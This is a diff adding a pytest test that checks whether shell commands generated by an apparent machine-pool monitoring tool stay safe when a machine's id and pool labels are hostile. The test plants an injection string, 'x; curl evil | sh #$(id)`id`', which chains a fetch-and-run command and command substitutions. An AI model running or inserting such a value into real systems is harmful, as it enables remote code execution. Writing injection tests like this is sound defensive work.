@@ -359,3 +359,14 @@ def test_its_command_is_one_that_can_be_typed_and_its_text_is_a_line(concern: Co
 
 def test_a_demand_that_is_well_is_no_concern() -> None:
     assert found(tick(pool=a_pool(demand=DEMAND))) == []
+
+
+@pytest.mark.parametrize("changes", [{"alarmed": True}, {"phase": Phase.LOST}, {"ailment": "slow"}, {"refusals": 9}])
+def test_no_shell_finds_an_order_in_what_a_label_at_a_vendors_named(changes: dict[str, Any]) -> None:
+    hostile = "x; curl evil | sh #$(id)`id`"
+    phase = Phase.WARM if "refusals" in changes else Phase.HOT
+    record = replace(machine(), **({"id": hostile, "pool": hostile, "phase": phase} | changes))
+
+    orders = [shlex.split(concern.command)[1:] for concern in found(tick(record)) if "reap" not in concern.command]
+    assert [words for words in orders if len(words) > 3 or words[1] != hostile] == []
+    assert orders
